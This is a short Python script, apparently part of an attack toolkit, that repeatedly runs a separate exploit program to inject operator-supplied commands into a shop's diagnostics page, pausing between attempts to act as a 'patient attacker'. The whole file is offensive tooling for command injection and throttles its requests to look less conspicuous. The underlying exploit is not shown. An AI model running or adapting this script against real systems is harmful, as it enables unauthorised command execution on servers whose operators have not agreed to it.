"""A patient attacker: the same request through the shop's front door again and again, with pauses.

slow.py PAUSE_S COMMAND...     each command is injected into the diagnostics page, PAUSE_S seconds apart
"""

import subprocess
import sys
import time

pause = float(sys.argv[1])
for number, command in enumerate(sys.argv[2:]):
    if number:
        time.sleep(pause)
    subprocess.run([sys.executable, "/srv/attack/exploit.py", "diag", command], check=True)
